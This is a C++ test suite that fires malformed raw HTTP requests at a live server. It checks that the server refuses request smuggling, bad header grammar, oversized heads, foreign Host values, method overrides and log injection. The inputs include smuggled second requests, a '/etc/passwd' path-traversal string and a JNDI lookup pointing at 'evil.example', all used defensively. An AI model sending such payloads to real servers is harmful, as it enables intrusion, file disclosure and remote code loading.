// Requests octet by octet against a running server: what could hide a second request, malformed heads, limits,
// keep-alive. The numbers are those of the catalogue of attacks that the project tests.
#include "tests/server/support/live_server.h"

#include <boost/test/unit_test.hpp>
#include <sys/socket.h>

#include <thread>

namespace depositary::server {

using namespace std::string_literals;
using std::chrono::milliseconds;

namespace {

// A request that must never run; its route would stand in the access log.
const std::string smuggled = "GET /api/v1/register-key HTTP/1.1\r\nHost: localhost\r\n\r\n";

std::size_t count(const std::string& text, std::string_view what) {
    std::size_t n = 0;
    for (auto at = text.find(what); at != std::string::npos; at = text.find(what, at + what.size())) {
        ++n;
    }
    return n;
}

// How many answers begin in it: the words of a problem may name the protocol too.
std::size_t count_answers(const std::string& text) {
    std::size_t n = 0;
    for (auto at = text.find("HTTP/1.1 "); at != std::string::npos; at = text.find("HTTP/1.1 ", at + 1)) {
        n += at + 9 < text.size() && text[at + 9] >= '1' && text[at + 9] <= '5';
    }
    return n;
}

int status_of(const std::string& answer) {
    return answer.size() > 12 ? std::stoi(answer.substr(9, 3)) : 0;
}

std::string get(const std::string& fields, const std::string& target = "/api/v1/health") {
    return "GET " + target + " HTTP/1.1\r\nHost: localhost\r\n" + fields + "\r\n";
}
std::string post(const std::string& fields, const std::string& body = "") {
    return "POST /api/v1/session HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + fields + "\r\n" +
           body;
}

// One answer with this status, `Connection: close`, the connection closed, and the request behind it never run.
void check_refused(LiveServer& live, const std::string& name, const std::string& request, int status) {
    const std::string answer = live.raw(request + smuggled);
    BOOST_CHECK_MESSAGE(status_of(answer) == status, name << ": " << answer.substr(0, 200));
    BOOST_CHECK_MESSAGE(count_answers(answer) == 1, name << ": more than one answer: " << answer);
    BOOST_CHECK_MESSAGE(answer.find("\r\nConnection: close\r\n") != std::string::npos,
                        name << ": not said to be closed");
    BOOST_CHECK_MESSAGE(live.log_text().find("/api/v1/register-key") == std::string::npos,
                        name << ": the second request ran");
}

}  // namespace

BOOST_AUTO_TEST_SUITE(framing)

// The check itself must be able to fail: two requests that are well framed both run.
BOOST_AUTO_TEST_CASE(two_plain_requests_on_one_connection_are_both_answered) {
    LiveServer live;
    Client client(live.port());
    client.send(get("") + smuggled);
    BOOST_CHECK_EQUAL(client.receive().value().status, 200);
    BOOST_CHECK_EQUAL(client.receive().value().status, 200);
    live.server->stop();  // all is logged
    BOOST_CHECK_NE(live.log_text().find("/api/v1/register-key"), std::string::npos);
}

BOOST_AUTO_TEST_CASE(no_doubt_about_where_a_body_ends_lets_a_second_request_in) {
    LiveServer live;
    const std::string length = std::to_string(smuggled.size());
    check_refused(live, "H04 CL and TE", post("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"), 400);
    check_refused(live, "H04 TE and CL", post("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", "0\r\n\r\n"), 400);
    check_refused(live, "H04 on a GET", get("Content-Length: " + length + "\r\nTransfer-Encoding: chunked\r\n"), 400);
    check_refused(live, "H05 CL twice, equal", post("Content-Length: 2\r\nContent-Length: 2\r\n", "{}"), 400);
    check_refused(live, "H05 CL twice, unequal", post("Content-Length: 2\r\nContent-Length: 100\r\n", "{}"), 400);
    check_refused(live, "H05 CL as a list", post("Content-Length: 2, 2\r\n", "{}"), 400);
    for (const std::string value :
         {"+5", "-5", "1,0", "0x5", "5 5", "5\t5", "", "5;", "5.0", "1e1", "05a", "\xC2\xB2"}) {
        check_refused(live, "H06 " + value, post("Content-Length: " + value + "\r\n", "12345"), 400);
    }
    check_refused(live, "H06 NUL", post("Content-Length: 5\0\r\n"s, "12345"), 400);
    for (const std::string value : {"chunked", "xchunked", "gzip, chunked", "identity",
                                    "=?x?Q?chunked?=", "chunked, chunked", "\"chunked\"", "Chunked", ""}) {
        check_refused(live, "H07 TE " + value, post("Transfer-Encoding: " + value + "\r\n", "0\r\n\r\n"), 411);
        check_refused(live, "H07 TE on a GET " + value, get("Transfer-Encoding: " + value + "\r\n") + "0\r\n\r\n", 411);
    }
    check_refused(live, "H07 TE twice",
                  post("Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"), 400);
    check_refused(live, "H07 space before the colon", post("Transfer-Encoding : chunked\r\n", "0\r\n\r\n"), 400);
    check_refused(live, "H07 VT before the value",
                  post("Transfer-Encoding: \x0b"
                       "chunked\r\n",
                       "0\r\n\r\n"),
                  400);
    check_refused(live, "H07 TE on HTTP/1.0",
                  "POST /api/v1/session HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 411);
    // H09: chunks are not taken at all, so none of their doubts arise.
    for (const std::string& chunk : {"1;" + std::string(1 << 20, 'e') + "\r\nx\r\n0\r\n\r\n", "FFFFFFFFF\r\n"s,
                                     "-1\r\n"s, "1\r\nx0\r\n\r\n"s, "0\r\nTrailer: 1\r\nX: y\r\n\r\n"s}) {
        check_refused(live, "H09", post("Transfer-Encoding: chunked\r\n", chunk), 411);
    }
    check_refused(live, "no length at all", post(""), 411);
    check_refused(live, "a body on a GET", get("Content-Length: " + length + "\r\n"), 400);
    check_refused(live, "a body on a DELETE",
                  "DELETE /api/v1/session HTTP/1.1\r\nHost: localhost\r\nContent-Length: " + length + "\r\n\r\n", 400);
}

// H08, H20: the body stands unread when the answer goes out, so nothing behind it is looked at.
BOOST_AUTO_TEST_CASE(a_body_that_nobody_read_is_never_the_next_request) {
    LiveServer live;
    const std::string length = "Content-Length: " + std::to_string(smuggled.size()) + "\r\n";
    const auto send = [&](const std::string& name, const std::string& target, const std::string& fields, int status) {
        const std::string answer = live.raw("POST " + target + " HTTP/1.1\r\nHost: localhost\r\n" + fields + length +
                                            "\r\n" + smuggled + smuggled);
        BOOST_CHECK_MESSAGE(status_of(answer) == status, name << ": " << answer.substr(0, 100));
        BOOST_CHECK_MESSAGE(count_answers(answer) == 1, name << ": " << answer);
        BOOST_CHECK(live.log_text().find("/api/v1/register-key") == std::string::npos);
    };
    const std::string json = "Content-Type: application/json\r\n";
    send("no such address", "/api/v1/nothing", json, 404);
    send("not signed in", "/api/v1/documents", json, 401);
    send("wrong method", "/api/v1/health", json, 405);
    send("media type", "/api/v1/session", "Content-Type: text/plain\r\n", 415);
    send("cross origin", "/api/v1/session", json + "Origin: https://evil.example\r\n", 403);
    send("a bad token", "/api/v1/documents", json + "Authorization: Bearer nonsense\r\n", 401);
    send("too large", "/api/v1/session", json + "Content-Length: 9999999\r\n", 400);
    // Read and refused: the connection may go on, and only with what stands behind the body.
    Client client(live.port());
    client.send(post(length, smuggled));
    BOOST_CHECK_EQUAL(client.receive().value().problem(), "json-malformed");
    client.send(get(""));
    BOOST_CHECK_EQUAL(client.receive().value().status, 200);
    BOOST_CHECK(live.log_text().find("/api/v1/register-key") == std::string::npos);
}

BOOST_AUTO_TEST_CASE(what_a_client_says_about_closing_is_done) {
    LiveServer live;
    for (const std::string fields :
         {"Connection: close\r\n", "Connection: x, Close\r\n", "Connection: keep-alive\r\nConnection: close\r\n"}) {
        check_refused(live, fields, get(fields), 200);
    }
    check_refused(live, "HTTP/1.0", "GET /api/v1/health HTTP/1.0\r\n\r\n", 200);
    check_refused(live, "HTTP/1.0", "GET /api/v1/health HTTP/1.0\r\nConnection: keep-alive\r\n\r\n", 200);
}

// H27.
BOOST_AUTO_TEST_CASE(a_connection_takes_so_many_requests_and_no_more) {
    LiveServer live([](ServerSettings& settings) { settings.limits.requests = 7; });
    std::string all;
    for (int i = 0; i < 100; ++i) {
        all += get("");
    }
    const std::string answers = live.raw(all);
    BOOST_CHECK_EQUAL(count(answers, "HTTP/1.1 200 OK"), 7u);
    BOOST_CHECK_EQUAL(count(answers, "\r\nConnection: close\r\n"), 1u);

    LiveServer once([](ServerSettings& settings) { settings.limits.requests = 1; });
    BOOST_CHECK_EQUAL(count_answers(once.raw(all)), 1u);
}

BOOST_AUTO_TEST_CASE(answers_on_a_kept_connection_end_where_they_say) {
    LiveServer live;
    const auto id = live.world.deposit("T/1", "the words of the text").document.to_text();
    const std::string who = live.bearer(live.world.secretariat);
    const std::string version = "/api/v1/documents/" + id + "/versions/1";
    Client client(live.port());
    const auto ask = [&](const std::string& method, const std::string& target, const std::string& fields = "") {
        client.send(method + " " + target + " HTTP/1.1\r\nHost: localhost\r\n" + who + fields + "\r\n");
        return client.receive(method == "HEAD").value();
    };
    for (int round = 0; round < 3; ++round) {
        BOOST_CHECK_EQUAL(ask("GET", version + "/files/text.txt").body, "the words of the text");
        BOOST_CHECK_EQUAL(ask("HEAD", version + "/files/text.txt").field("content-length").value(), "21");
        BOOST_CHECK_EQUAL(ask("GET", version + "/files/text.txt", "Range: bytes=4-8\r\n").body, "words");
        const auto tag = ask("GET", version + "/files/text.txt").field("etag").value();
        BOOST_CHECK_EQUAL(ask("GET", version + "/files/text.txt", "If-None-Match: " + tag + "\r\n").status, 304);
        BOOST_CHECK(ask("GET", version + "/bag.zip").body.starts_with("PK"));
        BOOST_CHECK_EQUAL(ask("HEAD", version + "/bag.zip").status, 200);
        BOOST_CHECK_EQUAL(ask("GET", "/api/v1/documents/none").status, 404);
    }
    BOOST_CHECK_EQUAL(ask("DELETE", "/api/v1/session").status, 204);
    BOOST_CHECK_EQUAL(ask("GET", "/api/v1/documents").status, 401);
}

// A body of which a part came with the head, and the next request in the same packet.
BOOST_AUTO_TEST_CASE(bodies_and_requests_may_be_cut_into_packets_anywhere) {
    LiveServer live;
    const std::string body = R"({"login": "secretariat"})";
    const std::string two =
        "POST /api/v1/session/challenge HTTP/1.1\r\nHost: localhost\r\nContent-Type: "
        "application/json\r\nContent-Length: " +
        std::to_string(body.size()) + "\r\n\r\n" + body + smuggled;
    for (std::size_t cut = 1; cut < two.size(); cut += 7) {
        Client client(live.port());
        client.send(two.substr(0, cut));
        std::this_thread::sleep_for(milliseconds(1));
        client.send(two.substr(cut));
        BOOST_REQUIRE_EQUAL(client.receive().value().status, 201);
        BOOST_REQUIRE_EQUAL(client.receive().value().status, 200);
    }
}

// H10: Poco's reader ends the header section at lines of certain lengths; here every length is read the same.
BOOST_AUTO_TEST_CASE(the_length_of_a_line_does_not_change_what_the_next_one_means) {
    LiveServer live;
    const std::string who = live.bearer(live.world.secretariat);
    for (const std::size_t length : {4091u, 4092u, 4093u, 8184u, 8191u, 8192u, 16384u}) {
        const std::string line = "X: " + std::string(length - 3, 'x') + "\r\n";
        BOOST_CHECK_EQUAL(live.ask("GET", "/api/v1/session", line + who).status, 200);
        BOOST_CHECK_EQUAL(live.ask("GET", "/api/v1/session", line).status, 401);
    }
}

BOOST_AUTO_TEST_CASE(heads_that_are_not_of_the_grammar_are_refused) {
    LiveServer live;
    const std::vector<std::string> heads = {"GET /api/v1/health HTTP/1.1\nHost: localhost\n\n\r\n\r\n",
                                            get("X: a\nY: b\r\n"),
                                            get("X: a\rY: b\r\n"),
                                            get("X: a\r\n folded\r\n"),
                                            get(" X: folded\r\n"),
                                            get("X : a\r\n"),
                                            get("no colon\r\n"),
                                            get("x\r\n"),
                                            get(": no name\r\n"),
                                            get("X: a\0b\r\n"s),
                                            get("X: \x1b[31m\r\n"),
                                            get("X\x80: a\r\n"),
                                            get("", "/api/v1/he\0alth"s),
                                            get("", "/api/v1/he\x07lth"),
                                            get("", "/a b"),
                                            get("", "/a\tb"),
                                            "GET  /api/v1/health HTTP/1.1\r\nHost: localhost\r\n\r\n",
                                            "\r\n" + get(""),
                                            "GET /\r\n\r\n"};
    for (const std::string& head : heads) {
        check_refused(live, "H11 " + head, head, 400);
    }
    check_refused(live, "H14 HTTP/9.9", "GET /api/v1/health HTTP/9.9\r\nHost: localhost\r\n\r\n", 505);
    check_refused(live, "H14 HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 505);
    check_refused(live, "H14 http/1.1", "GET /api/v1/health http/1.1\r\nHost: localhost\r\n\r\n", 505);
    for (const std::string method : {"TRACE", "CONNECT", "PATCH", "PUT", "OPTIONS", "PROPFIND", "get", "NONSENSE"}) {
        check_refused(live, "H14 " + method, method + " /api/v1/health HTTP/1.1\r\nHost: localhost\r\n\r\n", 405);
    }
    check_refused(live, "H14 not a token", "G@T /api/v1/health HTTP/1.1\r\nHost: localhost\r\n\r\n", 400);
    // A TLS handshake on the plain port.
    check_refused(live, "H24 the other way", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"s + "\r\n\r\n", 400);
}

// H12.
BOOST_AUTO_TEST_CASE(heads_have_their_limits) {
    LiveServer live;
    std::string fields;
    for (int i = 0; i < 101; ++i) {
        fields += "X" + std::to_string(i) + ": y\r\n";
    }
    check_refused(live, "H12 101 fields", get(fields), 431);
    check_refused(live, "H12 a target of 9 KiB", get("", "/" + std::string(9000, 'a')), 414);
    check_refused(live, "H12 a target of 64 KiB", get("", "/" + std::string(65536, 'a')), 414);
    check_refused(live, "H12 a field of 40 KiB", get("X: " + std::string(40'000, 'a') + "\r\n"), 431);
    std::string lines;
    for (int i = 0; i < 200'000; ++i) {
        lines += "x\r\n";
    }
    check_refused(live, "H12 200,000 lines without a colon", get(lines), 431);
    BOOST_CHECK_EQUAL(live.ask("GET", "/api/v1/health").status, 200);
}

// H13: a name that is not this server's is never answered for, and never comes back in an answer.
BOOST_AUTO_TEST_CASE(requests_for_another_host_are_refused) {
    LiveServer live;
    const auto with_host = [](const std::string& host) {
        return "GET /api/v1/health HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n";
    };
    check_refused(live, "no Host", "GET /api/v1/health HTTP/1.1\r\n\r\n", 400);
    check_refused(live, "two", "GET /api/v1/health HTTP/1.1\r\nHost: localhost\r\nHost: localhost\r\n\r\n", 400);
    check_refused(live, "empty", with_host(""), 400);
    check_refused(live, "RFC 2047", with_host("=?UTF-8?Q?localhost?="), 400);
    check_refused(live, "absolute", "GET http://evil.example/ HTTP/1.1\r\nHost: localhost\r\n\r\n", 400);
    check_refused(live, "user", with_host("a@localhost"), 400);
    check_refused(live, "port", with_host("127.0.0.1:84x"), 400);
    check_refused(live, "a name for a port", with_host("127.0.0.1:8400.evil.com"), 400);
    for (const std::string host : {"evil.example", "localhost.evil.example", "127.0.0.2", "localhost.", "[::2]:80"}) {
        const std::string answer = live.raw(with_host(host));
        BOOST_CHECK_EQUAL(status_of(answer), 421);
        BOOST_CHECK(answer.find(host) == std::string::npos);
    }
    for (const std::string host : {"localhost", "LOCALHOST:8080", "127.0.0.1:1", "[::1]", "[::1]:8080"}) {
        BOOST_CHECK_EQUAL(status_of(live.raw(with_host(host))), 200);
    }
    LiveServer named([](ServerSettings& settings) { settings.names = {"depositary.example"}; });
    BOOST_CHECK_EQUAL(status_of(named.raw(with_host("Depositary.Example:443"))), 200);
    BOOST_CHECK_EQUAL(status_of(named.raw(with_host("localhost"))), 421);
    // Behind a proxy, too, and it does not start there without a name.
    LiveServer proxied([](ServerSettings& settings) { behind_proxy(settings); });
    BOOST_CHECK_EQUAL(status_of(proxied.raw(with_host("evil.example"))), 421);
    ServerSettings nameless = proxied.used;
    nameless.names.clear();
    BOOST_CHECK_EXCEPTION(Server(*live.world.depositary, live.search, live.text, nameless), Error,
                          [](const auto& error) { return error.code() == "proxy-name"; });
}

// H14: a field cannot make one method out of another.
BOOST_AUTO_TEST_CASE(no_field_overrides_the_method) {
    LiveServer live;
    const std::string who = live.bearer(live.world.secretariat);
    for (const std::string field :
         {"X-HTTP-Method-Override: DELETE\r\n", "X-Method-Override: DELETE\r\n", "X-HTTP-Method: DELETE\r\n"}) {
        BOOST_CHECK_EQUAL(live.ask("GET", "/api/v1/session", who + field).status, 200);
        BOOST_CHECK_EQUAL(live.ask("GET", "/api/v1/session", who).status, 200);
    }
    BOOST_CHECK_EQUAL(live.ask("GET", "/api/v1/session?_method=DELETE", who).problem(), "query-unknown");
}

// H15.
BOOST_AUTO_TEST_CASE(a_path_is_read_once_or_refused) {
    LiveServer live;
    for (const std::string path :
         {"/api/v1/%2e%2e/v1/health", "/api/v1/../v1/health", "/api/v1/./health", "/api/v1/health%00",
          "/api/v1%2fhealth", "/api/v1/%5chealth", "/api/v1/\\health", "/api/v1/%c0%af", "/api/v1/%zz", "/api/v1/%4",
          "/api/v1/%ff", "/api/v1/%ed%a0%80", "/static/..%2f..%2fetc%2fpasswd"}) {
        BOOST_CHECK_MESSAGE(live.ask("GET", path).status == 400, path);
    }
    for (const std::string path :
         {"//api/v1/health", "/api//v1/health", "/api/v1/health/", "/api/v1/health;x=y", "/api/v1/%252e%252e",
          "/static/%252e%252e%252fetc", "/API/v1/health", "/register/tile/0/../../checkpoint"}) {
        const int status = live.ask("GET", path).status;
        BOOST_CHECK_MESSAGE(status == 404 || status == 400, path << " " << status);
    }
    BOOST_CHECK_EQUAL(live.ask("GET", "/api/v1/%68ealth").status, 200);
}

// H17, H18, Q12: nothing that a client sends reaches the log or another field.
BOOST_AUTO_TEST_CASE(encoded_words_and_control_sequences_stay_what_they_are) {
    LiveServer live;
    const auto before = count(live.log_text(), "\n");
    std::size_t sent = 0;
    for (const std::string& value :
         {"=?UTF-8?Q?a=0D=0AEvil:_1?="s, "=?UTF-32?B?////////////////?="s + std::string(300, 'A'), "%n%s%n%s"s,
          "\"}\n{\""s.substr(0, 2), "{\"a\":1}"s, "\xE2\x80\xA8"s, std::string(20'000, 'u'),
          "${jndi:ldap://evil.example/}"s}) {
        for (const std::string name :
             {"User-Agent", "Referer", "X-Forwarded-For", "Accept-Language", "If-None-Match", "Range"}) {
            const Answer answer = live.ask("GET", "/api/v1/health", name + ": " + value + "\r\n");
            BOOST_CHECK_EQUAL(answer.status, 200);
            BOOST_CHECK(answer.head.find("Evil") == std::string::npos);
            ++sent;
        }
    }
    live.server->stop();  // all is written
    const std::string log = live.log_text();
    BOOST_CHECK_EQUAL(count(log, "\n"), before + sent);
    for (const std::string_view word : {"Evil", "jndi", "uuuu", "%n", "\x1b"}) {
        BOOST_CHECK(log.find(word) == std::string::npos);
    }
    BOOST_CHECK_LT(log.size() / count(log, "\n"), 400u);
}

// H21: a handler that fails as a bug would is answered, with a number and none of its words.
BOOST_AUTO_TEST_CASE(a_failing_handler_is_answered_without_its_words) {
    LiveServer live;
    const auto id = live.world.deposit("T/1", "please fail").document.to_text();
    const std::string who = live.bearer(live.world.secretariat);
    const Answer answer = live.ask("GET", "/api/v1/documents/" + id + "/versions/1/text/text.txt", who);
    BOOST_CHECK_EQUAL(answer.status, 500);
    BOOST_CHECK_EQUAL(answer.problem(), "internal");
    BOOST_CHECK(answer.body.find("secret") == std::string::npos);
    BOOST_CHECK(answer.body.find("\"request\":") != std::string::npos);
    BOOST_CHECK(live.log_text().find("secret") == std::string::npos);
    const Answer page =
        live.ask("GET", "/documents/" + id + "/versions/1/text/text.txt", live.cookie(live.world.secretariat));
    BOOST_CHECK_EQUAL(page.status, 500);
    BOOST_CHECK(page.body.find("secret stands") == std::string::npos);
}

// H19: who may not upload is told before a byte of the body is asked for.
BOOST_AUTO_TEST_CASE(a_body_is_asked_for_only_after_all_checks) {
    LiveServer live;
    const auto upload = [&](const std::string& fields, const std::string& length) {
        return live.raw("POST /api/v1/uploads?compartment=" + live.world.compartment.to_text() +
                        " HTTP/1.1\r\nHost: localhost\r\nExpect: 100-continue\r\nContent-Length: " + length + "\r\n" +
                        fields + "\r\n");
    };
    BOOST_CHECK_EQUAL(status_of(upload("", "5368709120")), 401);
    BOOST_CHECK_EQUAL(status_of(upload(live.bearer(live.world.secretariat), "99999999999999")), 413);
    const auto reader = live.world.add_account("reader", "KH", repository::Role::observer);
    BOOST_CHECK_EQUAL(status_of(upload(live.bearer(reader), "5368709120")), 403);
    check_refused(live, "H19", get("Expect: 200-maybe\r\n"), 417);

    Client client(live.port());
    client.send("POST /api/v1/uploads?compartment=" + live.world.compartment.to_text() +
                " HTTP/1.1\r\nHost: localhost\r\nExpect: 100-continue\r\nContent-Length: 3\r\n" +
                live.bearer(live.world.secretariat) + "\r\n");
    char line[26] = {};
    BOOST_REQUIRE_EQUAL(::recv(client.descriptor(), line, 25, MSG_WAITALL), 25);
    BOOST_CHECK_EQUAL(std::string(line), "HTTP/1.1 100 Continue\r\n\r\n");
    client.send("abc");
    BOOST_CHECK_EQUAL(client.receive().value().status, 201);
    client.send(get(""));
    BOOST_CHECK_EQUAL(client.receive().value().status, 200);
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace depositary::server
